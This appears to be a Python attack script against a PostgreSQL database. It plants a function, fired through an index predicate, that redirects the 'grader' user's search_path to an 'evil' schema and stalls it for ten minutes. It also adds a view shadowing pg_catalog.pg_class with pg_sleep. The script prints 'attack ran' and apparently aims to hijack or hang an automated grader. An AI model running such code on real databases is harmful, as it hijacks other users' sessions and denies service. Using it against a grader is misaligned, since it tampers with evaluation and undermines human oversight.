import os

import psycopg2


def run(*statements):
    try:
        connection = psycopg2.connect(os.environ["DATABASE_URL"])
    except psycopg2.Error as error:
        print(error)
        return
    connection.autocommit = True
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement)
        except psycopg2.Error as error:
            print("refused:", str(error).split("\n")[0])
    connection.close()
    print("attack ran")


run(
    "CREATE OR REPLACE FUNCTION public.react(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN "
    "IF current_user = 'grader' THEN PERFORM set_config('search_path', 'evil, public, pg_catalog', false); PERFORM pg_sleep(600); END IF; RETURN true; END $$",
    "CREATE INDEX IF NOT EXISTS reacts ON tasks (title) WHERE public.react('x')",
    "CREATE SCHEMA IF NOT EXISTS evil",
    "CREATE OR REPLACE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE pg_sleep(600) IS NULL",
)
